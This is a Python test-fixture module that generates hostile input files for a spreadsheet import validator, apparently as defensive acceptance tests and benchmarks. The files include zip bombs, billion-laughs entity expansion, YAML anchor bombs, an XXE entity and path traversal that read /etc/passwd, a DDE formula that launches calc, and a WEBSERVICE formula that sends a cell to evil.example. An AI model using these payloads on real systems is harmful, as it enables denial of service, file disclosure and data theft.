# ruff: noqa: E501  a table of one line each
"""Generators of hostile files: small on disk, large or endless for a careless reader.

Each writes into a folder and returns the arguments of ``light-import validate``. They are run by
``tests/acceptance/test_hostile.py`` and measured by ``benchmarks/hostile.py``.
"""

from __future__ import annotations

import os
import socket
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import hostile_xls

Make = Callable[[Path], list[str]]

MB = 1 << 20
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """``message`` is part of the error for the user; None: the file is odd but accepted."""

    name: str
    attack: str
    make: Make
    message: str | None

    @property
    def slow(self) -> bool:
        """Not in the tests, where a similar file is; benchmarks/hostile.py has it."""
        return self.name in SLOW


# --- zips by hand -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Part:
    """A part as stored in the zip, with the size that the zip claims."""

    packed: bytes
    claimed: int  # bytes when unpacked
    crc: int = 0
    method: int = 8
    flags: int = 0


def packed(data: bytes) -> Part:
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Part(deflate.compress(data) + deflate.flush(), len(data), zlib.crc32(data))


def endless(
    head: bytes, filling: bytes, megabytes: int, tail: bytes = b"", claimed: int = 0
) -> Part:
    """``head``, megabytes of ``filling``, ``tail``: one megabyte is packed and repeated.

    The zip claims the true size, or ``claimed`` bytes with their checksum.
    """
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = (filling * (MB // len(filling) + 1))[: MB // len(filling) * len(filling)]
    middle = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    end = deflate.compress(tail) + deflate.flush()
    true = len(head) + len(block) * megabytes + len(tail)
    crc = zlib.crc32((head + block)[:claimed]) if claimed else 0
    return Part(start + middle * megabytes + end, claimed or true, crc)


def _entry(name: str, part: Part, offset: int) -> tuple[bytes, bytes]:
    raw = name.encode()
    common = struct.pack(
        "<HHHHHIIIHH",
        20,
        part.flags,
        part.method,
        0,
        33,
        part.crc,
        len(part.packed),
        part.claimed,
        len(raw),
        0,
    )
    local = b"PK\x03\x04" + common + raw + part.packed
    central = b"PK\x01\x02\x14\0" + common + struct.pack("<HHHII", 0, 0, 0, 0, offset) + raw
    return local, central


def zip_of(parts: list[tuple[str, Part]], *, overlapping: bool = False) -> bytes:
    """A zip; ``overlapping``: equal parts are stored once and listed often."""
    body, directory = bytearray(), bytearray()
    offsets: dict[bytes, int] = {}
    for name, part in parts:
        offset = offsets.get(part.packed, len(body)) if overlapping else len(body)
        local, central = _entry(name, part, offset)
        if offset == len(body):
            offsets[part.packed] = offset
            body += local
        directory += central
    count = min(len(parts), 0xFFFF)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body + directory + end)


def relations(*targets: tuple[str, str], mode: str = "") -> bytes:
    inside = "".join(
        f'<Relationship Id="rId{i}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
        for i, (kind, target) in enumerate(targets, start=1)
    )
    return f'{XML}<Relationships xmlns="{PACKAGE}">{inside}</Relationships>'.encode()


def sheet_xml(rows: str, before: str = "") -> bytes:
    return (
        f'{XML}{before}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    ).encode()


ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>Vendor ID</t></is></c></row>'
BOOK = (
    f'{XML}<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
    '<sheet name="Bills" sheetId="1" r:id="rId1"/></sheets></workbook>'
).encode()
STRINGS = f'{XML}<sst xmlns="{MAIN}"><si><t>Vendor ID</t></si></sst>'.encode()
STYLES = (
    f'{XML}<styleSheet xmlns="{MAIN}"><cellXfs><xf numFmtId="0"/></cellXfs></styleSheet>'.encode()
)


def xlsx(folder: Path, name: str = "bills.xlsx", **replaced: bytes | Part) -> list[str]:
    """A workbook of one sheet; ``replaced`` are other contents of its parts."""
    defaults: dict[str, bytes | Part] = {
        "rels": relations(("officeDocument", "xl/workbook.xml")),
        "book": BOOK,
        "book_rels": relations(
            ("worksheet", "worksheets/sheet1.xml"),
            ("sharedStrings", "sharedStrings.xml"),
            ("styles", "styles.xml"),
        ),
        "sheet": sheet_xml(ROW),
        "strings": STRINGS,
        "styles": STYLES,
    }
    places = {
        "rels": "_rels/.rels",
        "book": "xl/workbook.xml",
        "book_rels": "xl/_rels/workbook.xml.rels",
        "sheet": "xl/worksheets/sheet1.xml",
        "strings": "xl/sharedStrings.xml",
        "styles": "xl/styles.xml",
        "macros": "xl/vbaProject.bin",
        "properties": "docProps/custom.xml",
    }
    parts = [
        (places[key], value if isinstance(value, Part) else packed(value))
        for key, value in (defaults | replaced).items()
    ]
    return _write(folder, name, zip_of(parts))


def _write(folder: Path, name: str, data: bytes) -> list[str]:
    (folder / name).write_bytes(data)
    return [str(folder / name)]


# --- workbooks ----------------------------------------------------------------------------------

SHEET_HEAD = f'{XML}<worksheet xmlns="{MAIN}"><sheetData>'.encode()
SHEET_TAIL = b"</sheetData></worksheet>"


def sheet_bomb(folder: Path, part: str, claimed: int = 0) -> list[str]:
    heads = {
        "sheet": SHEET_HEAD,
        "strings": STRINGS[:-6],
        "styles": STYLES[:-13],
        "book": BOOK[:-11],
    }
    return xlsx(folder, **{part: endless(heads[part], b" " * 64, 1024, claimed=claimed)})


def many_parts(folder: Path) -> list[str]:
    empty = packed(b"")
    parts = [(f"xl/media/{i}", empty) for i in range(60_000)]
    return _write(folder, "bills.xlsx", zip_of([("xl/workbook.xml", packed(BOOK)), *parts]))


def overlapping(folder: Path) -> list[str]:
    block = endless(b"", b"a" * 64, 10)
    parts = [(f"xl/worksheets/sheet{i}.xml", block) for i in range(1000)]
    data = zip_of([("xl/workbook.xml", packed(BOOK)), *parts], overlapping=True)
    return _write(folder, "bills.xlsx", data)


def twice(folder: Path) -> list[str]:
    parts = [
        ("xl/workbook.xml", packed(BOOK)),
        ("xl/worksheets/sheet1.xml", packed(sheet_xml(ROW))),
    ]
    other = sheet_xml(ROW.replace("Vendor ID", "Something else"))
    return _write(folder, "bills.xlsx", zip_of([*parts, (parts[1][0], packed(other))]))


def nested(folder: Path) -> list[str]:
    data = zip_of([("xl/workbook.xml", endless(BOOK, b" " * 64, 500))])
    for _ in range(5):
        data = zip_of([("bills.xlsx", packed(data))])
    return _write(folder, "bills.xlsx", data)


def many_sheets(folder: Path) -> list[str]:
    sheets = "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId1"/>' for i in range(1, 50_000))
    book = BOOK.decode().replace("<sheets>", f"<sheets>{sheets}")
    return xlsx(folder, book=book.encode())


def corners(folder: Path) -> list[str]:
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return xlsx(folder, sheet=sheet_xml(ROW + far))


def one_wide_row(folder: Path, careful: bool) -> list[str]:
    """A row of 16,384 cells and 60,000 rows of one: a table of a billion cells."""
    wide = "".join(f'<c r="{letters(i)}1"><v>{i}</v></c>' for i in range(1, 16_385))
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(2, 60_000))
    odd = '<row r="60000"><c r="A60000" t="e"><v>#REF!</v></c></row>' if careful else ""
    return xlsx(folder, sheet=sheet_xml(f'<row r="1">{wide}</row>{rows}{odd}'))


def letters(number: int) -> str:
    out = ""
    while number:
        number, rest = divmod(number - 1, 26)
        out = chr(65 + rest) + out
    return out


def shared_often(folder: Path) -> list[str]:
    """A text of 100,000 characters shared by 50,000 cells: 5 GB if each gets a copy."""
    strings = f'{XML}<sst xmlns="{MAIN}"><si><t>{"x" * 100_000}</t></si></sst>'
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 50_000))
    return xlsx(folder, strings=strings.encode(), sheet=sheet_xml(rows))


def long_cell(folder: Path) -> list[str]:
    head = SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>'
    words = b"".join(b"%06d " % i for i in range(20_000))
    return xlsx(folder, sheet=endless(head, words, 90, b"</t></is></c></row>" + SHEET_TAIL))


def shared_formulas(folder: Path) -> list[str]:
    formula = "+".join(f"B{i}" for i in range(1, 1500))
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><f t="shared" si="0"/></c></row>' for n in range(2, 30_000)
    )
    first = f'<row r="1"><c r="A1"><f t="shared" ref="A1:A30000" si="0">{formula}</f></c></row>'
    return xlsx(folder, sheet=sheet_xml(first + rows))


def entities(folder: Path, part: str, dtd: str, use: str = "&z;") -> list[str]:
    whole = {
        "sheet": sheet_xml(ROW),
        "strings": STRINGS,
        "book": BOOK,
        "styles": STYLES,
        "rels": relations(("officeDocument", "xl/workbook.xml")),
        "properties": f"{XML}<Properties><property><x>Vendor ID</x></property></Properties>".encode(),
    }
    text = whole[part].decode()
    text = text.replace(XML, f"{XML}<!DOCTYPE x [{dtd}]>").replace("Vendor ID", use)
    if part in ("book", "styles", "rels"):
        text = text.replace('"/>', f'" x="{use}"/>', 1)
    return xlsx(folder, **{part: text.encode()})


LAUGHS = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "{("&" + before + ";") * 10}">'
    for before, name in zip("abcdefghij", "bcdefghijz", strict=True)
)
QUADRATIC = f'<!ENTITY z "{"a" * 50_000}">'


def entities_utf16(folder: Path) -> list[str]:
    text = sheet_xml(ROW).decode().replace("UTF-8", "UTF-16")
    text = text.replace("<worksheet", f"<!DOCTYPE x [{LAUGHS}]><worksheet").replace(
        "Vendor ID", "&z;"
    )
    return xlsx(folder, sheet=text.encode("utf-16"))


def deep(folder: Path, part: str) -> list[str]:
    heads = {
        "sheet": SHEET_HEAD,
        "strings": STRINGS[:-6],
        "styles": STYLES[:-13],
        "book": BOOK[:-11],
    }
    noise = b"".join(b"<%s>" % letters(i).encode() for i in range(1, 15_000))
    return xlsx(folder, **{part: endless(heads[part], noise, 18)})


def endless_row(folder: Path) -> list[str]:
    cells = b"".join(b'<c s="%d" t="e"/>' % (i % 977) for i in range(10_000))
    return xlsx(
        folder, sheet=endless(SHEET_HEAD + b'<row r="1">', cells, 18, b"</row>" + SHEET_TAIL)
    )


def many_attributes(folder: Path) -> list[str]:
    attributes = " ".join(f'a{i}="1"' for i in range(400_000))
    return xlsx(
        folder, sheet=sheet_xml(f'<row r="1" {attributes}><c r="A1" t="e"><v>x</v></c></row>')
    )


def unclosed_tags(folder: Path, tag: bytes) -> list[str]:
    return xlsx(folder, sheet=endless(SHEET_HEAD + b'<row r="1" hidden="0"/><f>', tag, 4))


def many_brackets(folder: Path) -> list[str]:
    formats = f'<numFmts><numFmt numFmtId="164" formatCode="{"[" * 400_000}"/></numFmts>'
    styles = STYLES.decode().replace("<cellXfs>", f"{formats}<cellXfs>").replace('"0"', '"164"')
    return xlsx(folder, styles=styles.encode())


def outside(folder: Path, target: str, mode: str) -> list[str]:
    return xlsx(folder, book_rels=relations(("worksheet", target), mode=mode))


def zip_password(folder: Path) -> list[str]:
    part = packed(sheet_xml(ROW))
    return xlsx(folder, sheet=Part(part.packed, part.claimed, part.crc, flags=1))


def wrong_checksum(folder: Path) -> list[str]:
    part = packed(sheet_xml(ROW))
    return xlsx(folder, sheet=Part(part.packed, part.claimed, part.crc ^ 1))


def tiny_strings(folder: Path) -> list[str]:
    strings = STRINGS[:-6] + b"<si><t>a</t></si>" * 1_000_000 + b"</sst>"
    return xlsx(folder, strings=strings)


def many_styles_in_a_tag(folder: Path) -> list[str]:
    """Cells whose tags are long, with a number format of money among their attributes."""
    formats = '<numFmts><numFmt numFmtId="164" formatCode="[$€]0.00"/></numFmts>'
    xfs = '<cellXfs><xf numFmtId="0"/><xf numFmtId="164"/></cellXfs>'
    styles = f'{XML}<styleSheet xmlns="{MAIN}">{formats}{xfs}</styleSheet>'
    noise = " ".join(f'a{i}="1"' for i in range(1_000))
    cells = "".join(
        f'<c r="A{n}" {noise} s="1"><v>1</v></c></row><row r="{n + 1}">' for n in range(2, 300)
    )
    return xlsx(folder, styles=styles.encode(), sheet=sheet_xml(f'{ROW}<row r="2">{cells}</row>'))


def linked(folder: Path) -> list[str]:
    """Formulas that run programs or fetch from other servers, with cached results."""
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="str"><f>{formula}</f><v>x{n}</v></c></row>'
        for n, formula in enumerate(
            ("cmd|'/C calc'!A0", "[1]Sheet1!A1", 'WEBSERVICE("http://evil.example/?"&amp;A1)'),
            start=2,
        )
    )
    link = f'{XML}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    args = xlsx(folder, sheet=sheet_xml(ROW + rows), properties=link.encode())
    data = Path(args[0]).read_bytes().replace(b"docProps/custom.xml", b"xl/externalLink.xml")
    return _write(folder, "bills.xlsx", data)


def result(folder: Path, *more: tuple[str, ...]) -> list[str]:
    """A workbook with the hidden sheet of a result, with a valid checksum."""
    facts = [("template", "light"), ("layout", "two_sheets"), ("sheet", "Bills"), *more]
    check = zlib.crc32("\n".join("\t".join(row) for row in facts).encode())
    rows = "".join(
        f'<row r="{n}">'
        + "".join(
            f'<c r="{letters(c)}{n}" t="inlineStr"><is><t>{text}</t></is></c>'
            for c, text in enumerate(row, start=1)
        )
        + "</row>"
        for n, row in enumerate([("By this sheet",), *facts, ("check", f"{check:08x}")], start=1)
    )
    return xlsx(folder, sheet=sheet_xml(rows), book=BOOK.replace(b"Bills", b"light-import"))


def encrypted(folder: Path) -> list[str]:
    """As Excel writes with a password: a container with one encrypted part."""
    name = "EncryptedPackage".encode("utf-16-le") + b"\0\0"
    return _write(folder, "bills.xlsx", hostile_xls.CONTAINER + bytes(1000) + name + bytes(500))


def macros(folder: Path) -> list[str]:
    return xlsx(folder, "bills.xlsm", macros=b"\xd0\xcf\x11\xe0 Auto_Open " * 100)


# --- OpenDocument and XLSB ----------------------------------------------------------------------

ODS = (
    '<?xml version="1.0"?><office:document-content'
    ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
    "<office:body><office:spreadsheet>"
)
ODS_END = "</office:spreadsheet></office:body></office:document-content>"


def ods(folder: Path, content: bytes | Part) -> list[str]:
    mimetype = b"application/vnd.oasis.opendocument.spreadsheet"
    part = content if isinstance(content, Part) else packed(content)
    manifest = b'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    parts = [("mimetype", packed(mimetype)), ("content.xml", part)]
    parts.append(("META-INF/manifest.xml", packed(manifest)))
    return _write(folder, "bills.ods", zip_of(parts))


def ods_table(folder: Path, rows: str, before: str = "") -> list[str]:
    text = (
        ODS.replace("?><", f"?>{before}<", 1) + f'<table:table table:name="T">{rows}</table:table>'
    )
    return ods(folder, (text + ODS_END).encode())


def ods_cell(text: str, repeat: int = 1) -> str:
    return (
        f'<table:table-cell office:value-type="string" table:number-columns-repeated="{repeat}">'
        f"<text:p>{text}</text:p></table:table-cell>"
    )


def ods_rows(cells: str, repeat: int = 1, more: str = "") -> str:
    return f'<table:table-row table:number-rows-repeated="{repeat}"{more}>{cells}</table:table-row>'


def xlsb_record(kind: int, data: bytes) -> bytes:
    size, length = bytearray(), len(data)
    while True:
        size.append(length & 0x7F | (0x80 if length > 0x7F else 0))
        length >>= 7
        if not length:
            break
    head = bytes([kind]) if kind < 0x80 else bytes([kind & 0x7F | 0x80, kind >> 7])
    return head + bytes(size) + data


def xlsb(folder: Path, sheet: bytes | Part, strings: bytes | Part = b"") -> list[str]:
    def text(value: str) -> bytes:
        return struct.pack("<I", len(value)) + value.encode("utf-16-le")

    bundle = struct.pack("<II", 0, 1) + text("rId1") + text("Bills")
    book = xlsb_record(131, b"") + xlsb_record(143, b"") + xlsb_record(156, bundle)
    book += xlsb_record(144, b"") + xlsb_record(132, b"")
    parts: list[tuple[str, bytes | Part]] = [
        ("_rels/.rels", relations(("officeDocument", "xl/workbook.bin"))),
        ("xl/workbook.bin", book),
        (
            "xl/_rels/workbook.bin.rels",
            relations(
                ("worksheet", "worksheets/sheet1.bin"), ("sharedStrings", "sharedStrings.bin")
            ),
        ),
        ("xl/worksheets/sheet1.bin", sheet),
        ("xl/sharedStrings.bin", strings),
    ]
    packed_parts = [(name, p if isinstance(p, Part) else packed(p)) for name, p in parts]
    return _write(folder, "bills.xlsb", zip_of(packed_parts))


def xlsb_cells(cells: list[tuple[int, int, int, bytes]]) -> bytes:
    """A sheet part of (row, column, type, content)."""
    size = struct.pack("<IIII", 0, 9, 0, 9)
    out, before = xlsb_record(129, b"") + xlsb_record(148, size) + xlsb_record(145, b""), None
    for row, column, kind, content in cells:
        if row != before:
            out += xlsb_record(0, struct.pack("<IIHBBBI", row, 0, 300, 0, 0, 0, 0))
            before = row
        out += xlsb_record(kind, struct.pack("<II", column, 0) + content)
    return out + xlsb_record(146, b"") + xlsb_record(130, b"")


def xlsb_far(folder: Path) -> list[str]:
    return xlsb(folder, xlsb_cells([(0, 0, 3, b"\x2a"), (40_000_000, 0, 3, b"\x2a")]))


def xlsb_shared_often(folder: Path) -> list[str]:
    value = "x" * 100_000
    item = b"\0" + struct.pack("<I", len(value)) + value.encode("utf-16-le")
    strings = (
        xlsb_record(159, struct.pack("<II", 1, 1)) + xlsb_record(19, item) + xlsb_record(160, b"")
    )
    return xlsb(folder, xlsb_cells([(n, 0, 7, b"\0\0\0\0") for n in range(30_000)]), strings)


# --- text files ---------------------------------------------------------------------------------


def text_file(folder: Path, make: Callable[[], bytes], name: str = "bills.csv") -> list[str]:
    return _write(folder, name, make())


def one_line_of_a_gigabyte(folder: Path) -> list[str]:
    path = folder / "bills.csv"
    with path.open("wb") as file:
        file.write(b"vendorId,amount\n")
        file.truncate(1 << 30)
    return [str(path)]


def wide_and_long() -> bytes:
    return b"a," * 16_000 + b"\n" + b"1\n" * 900_000


def odd_cells(filling: str) -> bytes:
    """A bill with 200 KB of ``filling`` in each cell, and as the name of a column."""
    long = filling * (200_000 // len(filling)) + "x"
    names = "billRef,vendor,amount,currency,issuedDate,invoiceNumber,description,status"
    lines = [f'{names},"{long}"', ",".join([f'"{long}"'] * 9), ",".join([f'"{long[:-1]}"'] * 9)]
    return "\n".join(lines).encode()


# --- templates ----------------------------------------------------------------------------------


def template(folder: Path, text: str) -> list[str]:
    (folder / "mine.yaml").write_text(text, encoding="utf-8")
    (folder / "bills.csv").write_text("Vendor,Amount\n" + f"{'a' * 40}!,1.00\n", encoding="utf-8")
    return [str(folder / "bills.csv"), "--template", str(folder / "mine.yaml")]


TEMPLATE = """template: mine
version: 1
layout: flat
source:
  header: {row: 1}
%s
group_by: [Vendor]
bills:
  vendor: {column: Vendor}
  currency: {value: GBP}
  amount: {column: Amount}
line_items:
  netAmount: {column: Amount}
%s
"""


def anchors() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 12):
        lines.append(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]")
    return "\n".join(lines)


def merges() -> str:
    lines = ["a0: &a0 {k0: 1}"]
    for i in range(1, 40):
        lines.append(f"a{i}: &a{i}\n  <<: [*a{i - 1}, *a{i - 1}]\n  k{i}: 1")
    return "\n".join(lines)


# --- what is no file ----------------------------------------------------------------------------


def fifo(folder: Path, name: str = "bills.csv") -> list[str]:
    os.mkfifo(folder / name)
    return [str(folder / name)]


def listening(folder: Path) -> list[str]:
    before = os.getcwd()
    os.chdir(folder)  # the name of a socket may have a hundred characters
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind("bills.csv")
    finally:
        os.chdir(before)
    return [str(folder / "bills.csv")]


def fifo_template(folder: Path) -> list[str]:
    args = template(folder, "")
    (folder / "mine.yaml").unlink()
    os.mkfifo(folder / "mine.yaml")
    return args


def fifo_lookup(folder: Path) -> list[str]:
    args = template(folder, TEMPLATE % ("", ""))
    (folder / "lookups").mkdir()
    os.mkfifo(folder / "lookups" / "vendor.csv")
    return [*args, "--lookups", str(folder / "lookups")]


def lookup(folder: Path, make: Make) -> list[str]:
    args = template(folder, TEMPLATE % ("", ""))
    (folder / "lookups").mkdir()
    path = Path(make(folder)[0])
    path.rename(folder / "lookups" / f"vendor{path.suffix}")
    return [*args, "--lookups", str(folder / "lookups")]


# --- all ----------------------------------------------------------------------------------------

_XXE = '<!ENTITY z SYSTEM "file:///etc/passwd">'
_CSV = partial(partial, text_file)


def _hostile() -> Iterator[Hostile]:
    yield Hostile(
        "zip bomb in a sheet", "1 GB from 1 MB", partial(sheet_bomb, part="sheet"), "unpack"
    )
    for part in ("strings", "styles", "book"):
        yield Hostile(
            f"zip bomb in the {part}", "1 GB from 1 MB", partial(sheet_bomb, part=part), "unpack"
        )
    for part in ("sheet", "strings"):
        yield Hostile(
            f"zip bomb in the {part} that claims to be small",
            "1 GB behind a claim of 2 KB",
            partial(sheet_bomb, part=part, claimed=2048),
            "unpack",
        )
    yield Hostile("nested zips", "zips in zips", nested, "zip archive")
    yield Hostile("many parts", "60,000 parts", many_parts, "parts")
    yield Hostile("overlapping parts", "1,000 parts in the place of one", overlapping, "same place")
    yield Hostile("a part twice", "two sheets under one name", twice, "twice")
    yield Hostile("many sheets", "50,000 sheets", many_sheets, "sheets")
    yield Hostile("cells in opposite corners", "17 billion cells between two", corners, None)
    for careful in (False, True):
        yield Hostile(
            f"one wide row{', and an error cell' if careful else ''}",
            "a billion cells from 76,000",
            partial(one_wide_row, careful=careful),
            "far apart",
        )
    yield Hostile("a long text shared often", "5 GB from 100 KB", shared_often, "repeated")
    yield Hostile("a cell of 90 MB", "memory", long_cell, "too long")
    yield Hostile("a long formula shared often", "30,000 translations", shared_formulas, None)
    for part in ("sheet", "strings", "book", "rels", "styles", "properties"):
        yield Hostile(
            f"a billion laughs in the {part}",
            "10 GB from 1 KB",
            partial(entities, part=part, dtd=LAUGHS),
            "document type" if part != "properties" else None,
        )
    yield Hostile(
        "quadratic blow-up",
        "2.5 GB from 250 KB",
        partial(entities, part="sheet", dtd=QUADRATIC, use="&z;" * 50_000),
        "document type",
    )
    yield Hostile(
        "an external entity",
        "to read another file",
        partial(entities, part="strings", dtd=_XXE),
        "document type",
    )
    yield Hostile("laughs in UTF-16", "to slip by", entities_utf16, "document type")
    for part in ("sheet", "strings", "styles"):
        yield Hostile(
            f"deep XML in the {part}",
            "millions of elements in each other",
            partial(deep, part=part),
            "",
        )
    yield Hostile("an endless row", "a million cells in a row", endless_row, "")
    yield Hostile("an element of 400,000 attributes", "time", many_attributes, "")
    yield Hostile("tags never closed", "quadratic time", partial(unclosed_tags, tag=b"<f"), "")
    yield Hostile("rows never closed", "quadratic time", partial(unclosed_tags, tag=b"<row "), "")
    yield Hostile("a number format of brackets", "quadratic time", many_brackets, None)
    yield Hostile(
        "a sheet that is another file",
        "to read another file",
        partial(outside, target="file:///etc/passwd", mode=' TargetMode="External"'),
        "",
    )
    yield Hostile(
        "a sheet outside of the zip",
        "to read another file",
        partial(outside, target="../../../../etc/passwd", mode=""),
        "",
    )
    yield Hostile("a part under a password", "–", zip_password, "password")
    yield Hostile("macros", "to run", macros, None)
    yield Hostile("a checksum that is wrong", "to mislead", wrong_checksum, "damaged")
    yield Hostile("a million shared texts of a letter", "time", tiny_strings, None)
    yield Hostile("tags of a thousand attributes", "quadratic time", many_styles_in_a_tag, None)
    yield Hostile("formulas of DDE and of other files", "to run, to fetch", linked, None)
    yield Hostile("a workbook that is encrypted", "–", encrypted, "password")
    yield Hostile(
        "a result of endless rows",
        "memory",
        lambda folder: result(folder, ("rows", "1-999999999999")),
        "was changed",
    )
    yield Hostile(
        "XLS: names that double", "all memory from 2 KB", hostile_xls.names_that_double, None
    )
    yield Hostile(
        "XLS: links at every cell", "all memory from 1 KB", hostile_xls.links_everywhere, None
    )
    yield Hostile(
        "XLS: sheets in one place",
        "400 MB from 1 MB",
        hostile_xls.sheets_in_one_place,
        "same place",
    )
    yield Hostile("XLS: 400,000 formats", "time", hostile_xls.many_formats, "formats")
    yield Hostile(
        "XLS: the last cell of every row", "16 million places", hostile_xls.last_cells, ""
    )
    yield Hostile(
        "XLS: a long text shared often", "500 MB from 1 MB", hostile_xls.shared_often, "repeated"
    )
    yield Hostile(
        "XLS: 3 million empty records", "time", hostile_xls.nothing_in_records, "no cells"
    )
    yield Hostile(
        "XLS: every way to every part",
        "no end from 9 KB",
        hostile_xls.every_way_to_every_part,
        "circle",
    )
    yield Hostile(
        "ODS: a billion cells by repetition",
        "memory",
        partial(ods_table, rows=ods_rows(ods_cell("x", 1000), 1_000_000)),
        "far apart",
    )
    yield Hostile(
        "ODS: 16 million cells by repetition",
        "memory",
        partial(ods_table, rows=ods_rows(ods_cell("x", 16_000), 1000)),
        "",
    )
    yield Hostile(
        "ODS: a long text repeated",
        "memory",
        partial(ods_table, rows=ods_rows(ods_cell("x" * 100_000, 1000), 1000)),
        "",
    )
    yield Hostile(
        "ODS: errors repeated",
        "memory",
        partial(
            ods_table, rows=ods_rows(ods_cell("#REF!", 1000).replace("string", "float"), 20_000)
        ),
        "",
    )
    yield Hostile(
        "ODS: hidden rows without end",
        "memory",
        partial(ods_table, rows=ods_rows("", 500_000, ' table:visibility="collapse"') * 2000),
        "",
    )
    yield Hostile(
        "ODS: a billion laughs",
        "10 GB from 1 KB",
        partial(ods_table, rows=ods_rows(ods_cell("&z;")), before=f"<!DOCTYPE x [{LAUGHS}]>"),
        "document type",
    )
    yield Hostile(
        "ODS: a zip bomb",
        "1 GB from 1 MB",
        lambda folder: ods(folder, endless(ODS.encode(), b" " * 64, 1024)),
        "unpack",
    )
    yield Hostile(
        "ODS: a paragraph of 100 MB",
        "quadratic time",
        lambda folder: ods(
            folder,
            endless(
                (
                    ODS
                    + '<table:table table:name="T"><table:table-row><table:table-cell office:value-type="string"><text:p>'
                ).encode(),
                b"".join(b"%06d " % i for i in range(20_000)),
                90,
            ),
        ),
        "",
    )
    yield Hostile(
        "ODS: deep",
        "memory",
        lambda folder: ods(
            folder,
            endless(
                ODS.encode(), b"".join(b"<%s>" % letters(i).encode() for i in range(1, 15_000)), 18
            ),
        ),
        "",
    )
    yield Hostile("XLSB: a cell in row 40 million", "memory", xlsb_far, "")
    yield Hostile("XLSB: a long text shared often", "6 GB from 200 KB", xlsb_shared_often, "")
    yield Hostile(
        "XLSB: a zip bomb",
        "1 GB from 1 MB",
        lambda folder: xlsb(folder, endless(b"", b"\0" * 64, 1024)),
        "unpack",
    )
    yield Hostile("CSV: a line of 1 GB", "memory", one_line_of_a_gigabyte, "MB")
    yield Hostile(
        "CSV: a line of 60 MB", "memory", _CSV(make=lambda: b"vendorId\n" + b"a" * 60 * MB), ""
    )
    yield Hostile(
        "CSV: a NUL byte",
        "to end the text for some",
        _CSV(make=lambda: b"vendorId,amount\nx,1\0\n"),
        "NUL",
    )
    yield Hostile(
        "CSV: 100,000 columns",
        "memory",
        _CSV(make=lambda: b"a," * 100_000 + b"\n1\n"),
        "100,001 cells",
    )
    yield Hostile(
        "CSV: one wide row and many rows",
        "14 billion cells",
        _CSV(make=wide_and_long),
        "far apart",
    )
    yield Hostile(
        "CSV: one wide row below many rows",
        "a billion cells from 700 KB",
        _CSV(make=lambda: b"a,b,c\n" + b"1,2,3\n" * 100_000 + b"," * 15_999 + b"\n"),
        "far apart",
    )
    yield Hostile("CSV: 5 million rows", "memory", _CSV(make=lambda: b"a\n" * 5_000_000), "rows")
    yield Hostile(
        "CSV: a quotation mark never closed",
        "memory",
        _CSV(make=lambda: b'a,b\n1,"' + b"x,y\n" * 400_000),
        "quotation mark",
    )
    yield Hostile(
        "CSV: a million quotation marks",
        "time",
        _CSV(make=lambda: b"a,b\n1," + b'"' * 1_000_001),
        "quotation mark",
    )
    yield Hostile(
        "CSV: a word of 20 MB and one accent",
        "quadratic time",
        _CSV(make=lambda: b"a,b\n" + b"\n".join([b"x" * 900_000] * 20) + b"\n\xe9t\xe9,1\n"),
        None,
    )
    yield Hostile(
        "CSV: a million odd words",
        "time",
        _CSV(
            make=lambda: (
                b"a,b\n" + b"".join(b"%d\xa4\xd0,\xf0%d\n" % (i, i) for i in range(500_000))
            )
        ),
        "",
    )
    yield Hostile(
        "CSV: a word of accents",
        "quadratic time",
        _CSV(make=lambda: b"a,b\n" + b"a\x92" * 400_000 + b",1\n"),
        "",
    )
    yield Hostile(
        "CSV: an amount of 5,000 digits",
        "time, a fault",
        _CSV(
            make=lambda: (
                b"billRef,vendorId,amount,currency,issuedDate\nB1,x,"
                + b"9" * 5000
                + b",GBP,"
                + b"1" * 5000
                + b"\n"
            )
        ),
        None,
    )
    yield Hostile(
        "CSV: 16,000 unknown columns",
        "time",
        _CSV(
            make=lambda: (
                b"billRef,vendorId,amount,currency,issuedDate,invoiceNumber,"
                + b",".join(b"vendorIx%d" % i for i in range(16_000))
                + b"\nB1,x,1,GBP,2025-01-01,1,y\n"
            )
        ),
        None,
    )
    for filling in ("*", " ", "1", "1,", "(", "-", "€", "é1", "(custom)", "a b"):
        yield Hostile(
            f"CSV: cells and headers full of {filling!r}",
            "quadratic time",
            _CSV(make=partial(lambda f: odd_cells(f), filling)),
            None,
        )
    for what, filling in {
        "comments": b"<!--",
        "tags": b"<a ",
        "declarations": b"<!x",
        "ends": b"</",
        "instructions": b"<?",
